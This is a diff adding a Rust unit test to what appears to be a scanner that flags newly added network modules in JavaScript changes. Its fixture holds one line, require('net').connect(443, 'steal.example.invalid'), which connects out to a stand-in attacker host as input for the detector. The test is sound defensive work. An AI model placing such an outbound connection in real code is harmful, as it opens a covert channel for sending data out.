@@ -47,6 +47,21 @@ mod tests {
     }
 
     #[test]
+    fn an_inline_require_is_named_and_cited_once() {
+        let f = diff_index(
+            r#"module.exports = 1;"#,
+            r#"require('net').connect(443, 'steal.example.invalid');"#,
+        );
+        let hit = find(&f, RULE.code).expect("finding");
+        assert!(hit.message.contains("(net)"), "{hit:?}");
+        assert_eq!(
+            hit.evidence.len(),
+            1,
+            "one line is one piece of evidence: {hit:?}"
+        );
+    }
+
+    #[test]
     fn quiet_when_it_was_already_there() {
         let f = diff_index(
             r#"const https = require('https');"#,
